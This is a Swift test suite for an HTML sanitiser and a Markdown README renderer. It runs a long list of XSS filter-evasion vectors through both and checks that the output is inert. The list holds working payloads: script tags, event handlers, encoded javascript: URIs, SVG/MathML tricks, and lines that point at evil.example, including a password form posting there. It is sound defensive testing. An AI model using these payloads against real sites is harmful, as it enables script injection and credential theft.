import Testing

@testable import SafeHTML

/// Attack vectors of the kinds the OWASP XSS filter evasion cheat sheet lists, each sanitised: the
/// output must be inert (see `Inertness`), and where it matters, exactly what is kept is checked.
@Suite struct XSSVectorTests {
    static let vectors: [String] = [
        // Script elements, in every spelling and state of closure.
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt SRC=//evil.example/x.js></ScRiPt>",
        "<script>alert(1)",
        "<script",
        "<script src=x",
        "<script>alert(1)</script >",
        "<script>alert(1)</script\t\n>",
        "<script>alert(1)</script foo=\"bar\">",
        "<script>alert('</scr' + 'ipt>')</script>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script>/*</script><script>*/alert(1)</script>",
        // Event attributes.
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<b onmouseover=alert(1)>hover</b>",
        "<p onclick='alert(1)' ONCLICK=alert(2)>x</p>",
        "<div/onmouseover='alert(1)'>x</div>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<marquee onstart=alert(1)>",
        // SVG and MathML.
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        // javascript: and other schemes in links.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href='JAVASCRIPT:alert(1)'>x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#09;script:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"&#x20;javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"javascript:alert(1)\" href=\"https://example.com\">x</a>",
        "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"\u{7F}javascript:alert(1)\">x</a>",
        // Unquoted attributes and broken quoting.
        "<a href=https://example.com/>onmouseover=alert(1)>x</a>",
        "<a title=x>onmouseover=alert(1) href=javascript:alert(1)>x</a>",
        "<a href=\"https://example.com\"onmouseover=\"alert(1)\">x</a>",
        "<a href='https://example.com'/onmouseover=alert(1)>x</a>",
        "<a title=\"x\" \"onmouseover=alert(1)\">x</a>",
        "<p title=\"a>b\" onclick=alert(1)>x</p>",
        "<a href=\"https://example.com\" title=\"\"><script>alert(1)</script>\">x</a>",
        // Style.
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<span style=\"x:expression(alert(1))\">x</span>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        // Comments hiding markup.
        "<!--><script>alert(1)</script>-->",
        "<!---><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<!--",
        "<!-- x -- y --><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "</x onclick=alert(1)><script>alert(1)</script>",
        // Frames, objects, embeds, templates.
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=x>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object data=x><param name=x value=y><embed src=x></object>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        // Page-level tags.
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
        "<form><form action=javascript:alert(1)><button>x</button></form></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=submit>",
        "<html><head><script>alert(1)</script></head><body>x</body></html>",
        // Entity-encoded markup stays text.
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        // Assorted.
        "<a href=\"https://example.com\" rel=\"opener\" target=\"_blank\">x</a>",
        "<div><div><div><script>alert(1)</script></div></div></div>",
        "<table><tr><td background=\"javascript:alert(1)\" onclick=alert(1)>x</td></tr></table>",
        "<code class=\"language-js\" onclick=alert(1)>x</code>",
        "<code class=\"x\\\" onclick=alert(1)\">x</code>",
        "<span class=\"language-x onclick\">x</span>",
        "<\u{0}script>alert(1)</script>",
        "<scrip\u{0}t>alert(1)</script>",
        "<a\u{0} href=javascript:alert(1)>x</a>",
    ]

    @Test(arguments: vectors)
    func vectorIsInert(_ vector: String) {
        let output = HTMLSanitizer.sanitize(vector)
        #expect(Inertness.problems(in: output) == [], "\(vector) -> \(output)")
        #expect(!output.lowercased().contains("alert(1)</script"), "\(vector) -> \(output)")
    }

    @Test(arguments: vectors)
    func vectorInMarkdownIsInert(_ vector: String) {
        let output = ReadmeRenderer.render(vector, contentType: "text/markdown")
        #expect(Inertness.problems(in: output) == [], "\(vector) -> \(output)")
    }

    @Test func scriptContentIsGoneNotShown() {
        #expect(HTMLSanitizer.sanitize("a<script>alert(1)</script>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<script>alert(1)</script >b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<SCRIPT>alert(1)</sCrIpT\n>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<script>alert(1)") == "a")
        #expect(HTMLSanitizer.sanitize("a<script>x</scriptx>y</script>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<style>p{}</style>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<iframe srcdoc=\"x\">inner</iframe>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<textarea>t</textarea>b<title>t</title>c") == "abc")
        #expect(HTMLSanitizer.sanitize("a<noscript>n</noscript>b") == "ab")
    }

    /// `<scr<script>` is one tag named `scr<script`, as in a browser: what follows is text, not a script.
    @Test func splitScriptTagsLeaveOnlyText() {
        #expect(HTMLSanitizer.sanitize("<scr<script>ipt>alert(1)</scr</script>ipt>") == "ipt&gt;alert(1)ipt&gt;")
    }

    @Test func droppedContainersTakeTheirContentUnclosedToTheEnd() {
        #expect(HTMLSanitizer.sanitize("a<svg><g><text>hidden</text></g></svg>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<svg><svg></svg>still hidden</svg>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<svg/>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<math><mi>x</mi></math>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<object data=x>fallback</object>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<template><p>t</p></template>b") == "ab")
        #expect(HTMLSanitizer.sanitize("<p>a<svg><p>never closed") == "<p>a</p>")
        #expect(HTMLSanitizer.sanitize("a<embed src=x>b") == "ab")
    }

    @Test func imagesBecomeTheirAltText() {
        #expect(HTMLSanitizer.sanitize("<p><img src=x onerror=alert(1) alt=\"a <b> &amp; c\"> d</p>") == "<p>a &lt;b&gt; &amp; c d</p>")
        #expect(HTMLSanitizer.sanitize("<img src=\"https://example.com/x.png\">") == "")
        #expect(HTMLSanitizer.sanitize("<img alt=\"<script>alert(1)</script>\">") == "&lt;script&gt;alert(1)&lt;/script&gt;")
    }

    @Test func hostileHrefsLoseTheAttributeButKeepTheLink() {
        for href in [
            "javascript:alert(1)", "JAVASCRIPT:alert(1)", "  javascript:alert(1)", "\u{1}\u{2}javascript:alert(1)",
            "java\tscript:alert(1)", "jav&#x61;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
            "java&NewLine;script:alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
            "vbscript:msgbox(1)", "VBScript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
            "data:image/png;base64,AAAA", "file:///etc/passwd", "ftp://example.com/", "jar:https://x!/",
            "blob:https://example.com/uuid", "about:blank", "x-javascript:alert(1)", "javascript\u{0}:alert(1)",
        ] {
            let output = HTMLSanitizer.sanitize("<a href=\"\(href)\">x</a>")
            #expect(output == "<a rel=\"nofollow noopener\">x</a>", "\(href) -> \(output)")
        }
    }

    @Test func safeHrefsSurviveEscaped() {
        let cases: [(String, String)] = [
            ("https://example.com/a?b=1&c=2", "https://example.com/a?b=1&amp;c=2"),
            ("http://example.com/", "http://example.com/"),
            ("HTTPS://EXAMPLE.COM/", "HTTPS://EXAMPLE.COM/"),
            ("mailto:someone@example.com", "mailto:someone@example.com"),
            ("#installation", "#installation"),
            ("docs/usage.md", "docs/usage.md"),
            ("../up", "../up"),
            ("/absolute/path", "/absolute/path"),
            ("?query=x:y", "?query=x:y"),
            ("path/with:colon", "path/with:colon"),
            ("  https://example.com/  ", "https://example.com/"),
            ("https://example.com/?q=\"'<>", "https://example.com/?q=&quot;&#39;&lt;&gt;"),
            ("", ""),
        ]
        for (href, written) in cases {
            let output = HTMLSanitizer.sanitize("<a href=\"\(HTML.escape(href))\">x</a>")
            #expect(output == "<a href=\"\(written)\" rel=\"nofollow noopener\">x</a>", "\(href) -> \(output)")
        }
    }

    @Test func everyLinkGetsOurRelWhateverItHad() {
        #expect(
            HTMLSanitizer.sanitize("<a href=\"https://x.example\" rel=\"opener\" target=_blank title='t'>x</a>")
                == "<a href=\"https://x.example\" title=\"t\" rel=\"nofollow noopener\">x</a>"
        )
        #expect(HTMLSanitizer.sanitize("<a>x</a>") == "<a rel=\"nofollow noopener\">x</a>")
    }

    @Test func eventAndStyleAttributesAreDropped() {
        #expect(HTMLSanitizer.sanitize("<b onmouseover=alert(1)>x</b>") == "<b>x</b>")
        #expect(HTMLSanitizer.sanitize("<div style=\"color:red\" class=\"x\" id=\"y\">x</div>") == "<div>x</div>")
        #expect(HTMLSanitizer.sanitize("<p/onclick=alert(1)>x</p>") == "<p>x</p>")
    }

    @Test func unquotedAttributeValuesEndAtSpaceOrGreaterThan() {
        #expect(
            HTMLSanitizer.sanitize("<a href=https://example.com/>onmouseover=alert(1)>x</a>")
                == "<a href=\"https://example.com/\" rel=\"nofollow noopener\">onmouseover=alert(1)&gt;x</a>"
        )
        #expect(HTMLSanitizer.sanitize("<p title=\"a>b\" onclick=alert(1)>x</p>") == "<p>x</p>")
    }

    @Test func commentsAndDoctypesAreDropped() {
        #expect(HTMLSanitizer.sanitize("a<!--><b>b</b>-->") == "a<b>b</b>--&gt;")
        #expect(HTMLSanitizer.sanitize("a<!---><b>b</b>") == "a<b>b</b>")
        #expect(HTMLSanitizer.sanitize("a<!-- <script>x</script> -->b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<!-- x --!>b") == "ab")
        #expect(HTMLSanitizer.sanitize("a<!-- unclosed <b>") == "a")
        #expect(HTMLSanitizer.sanitize("<!DOCTYPE html>a<?php echo 1 ?>b<![CDATA[c]]>d") == "abd")
        #expect(HTMLSanitizer.sanitize("a</ x>b</>c") == "abc")
    }

    @Test func pageLevelElementsAreDroppedAndTheirTextKept() {
        #expect(HTMLSanitizer.sanitize("<meta http-equiv=refresh content=\"0;url=https://x\">a") == "a")
        #expect(HTMLSanitizer.sanitize("<base href=\"https://evil.example/\">a") == "a")
        #expect(
            HTMLSanitizer.sanitize("<form action=\"https://evil.example/\"><input name=p><button>go</button></form>")
                == "go"
        )
        #expect(HTMLSanitizer.sanitize("<form><form action=x>y</form></form>") == "y")
        #expect(HTMLSanitizer.sanitize("<html><body><center><font color=red>x</font></center></body></html>") == "x")
    }

    @Test func encodedMarkupStaysText() {
        #expect(HTMLSanitizer.sanitize("&lt;script&gt;alert(1)&lt;/script&gt;") == "&lt;script&gt;alert(1)&lt;/script&gt;")
        #expect(HTMLSanitizer.sanitize("&#60;img src=x onerror=alert(1)&#x3e;") == "&lt;img src=x onerror=alert(1)&gt;")
        #expect(HTMLSanitizer.sanitize("&amp;lt;b&amp;gt;") == "&amp;lt;b&amp;gt;")
    }

    @Test func markdownLinksAndImagesWithHostileURLs() {
        let cases: [(String, String)] = [
            ("[x](javascript:alert(1))", "<p><a rel=\"nofollow noopener\">x</a></p>"),
            ("[x](JavaScript:alert(1))", "<p><a rel=\"nofollow noopener\">x</a></p>"),
            ("[x](jav&#x61;script:alert(1))", "<p><a rel=\"nofollow noopener\">x</a></p>"),
            ("[x](vbscript:alert(1))", "<p><a rel=\"nofollow noopener\">x</a></p>"),
            ("[x](data:text/html,hi)", "<p><a rel=\"nofollow noopener\">x</a></p>"),
            ("![x](data:image/svg+xml,<svg onload=alert(1)>)", "x"),
            ("![alt text](https://example.com/x.png)", "alt text"),
            ("See ![alt](https://example.com/x.png) here", "<p>See alt here</p>"),
            ("[x][r]\n\n[r]: javascript:alert(1)", "<p><a rel=\"nofollow noopener\">x</a></p>"),
        ]
        for (markdown, expected) in cases {
            let output = ReadmeRenderer.render(markdown, contentType: "text/markdown")
            #expect(output == expected, "\(markdown) -> \(output)")
        }
    }

    @Test func rawHTMLInMarkdownIsSanitised() {
        let markdown = """
            # Title

            <div align="center" onmouseover="alert(1)">
              <img src="logo.png" alt="Logo" onerror="alert(1)">
              <script>alert(1)</script>
            </div>

            Some <b onclick="alert(1)">bold</b> and <iframe src="https://evil.example"></iframe> text.
            """
        let output = ReadmeRenderer.render(markdown, contentType: "text/markdown")
        #expect(Inertness.problems(in: output) == [], "\(output)")
        #expect(output.contains("<h1>Title</h1>"))
        #expect(output.contains("Logo"))
        #expect(!output.contains("alert"))
    }

    @Test func autolinksAreCheckedLikeAnyLink() {
        let output = ReadmeRenderer.render("<javascript:alert(1)> and <https://example.com>", contentType: "text/markdown")
        #expect(Inertness.problems(in: output) == [], "\(output)")
        #expect(!output.contains("href=\"javascript"))
    }
}
